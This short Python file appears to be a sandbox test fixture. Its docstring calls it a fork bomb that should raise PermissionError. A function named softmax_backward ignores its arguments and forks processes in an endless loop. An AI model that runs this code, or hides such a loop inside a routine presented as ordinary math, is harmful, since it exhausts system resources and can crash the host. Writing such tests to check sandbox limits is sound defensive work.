"""A fork bomb.

Told: PermissionError
"""
# expect: {"softmax_backward": [0, []]}
# %% softmax_backward
import os


def softmax_backward(s, g):
    while True:
        os.fork()
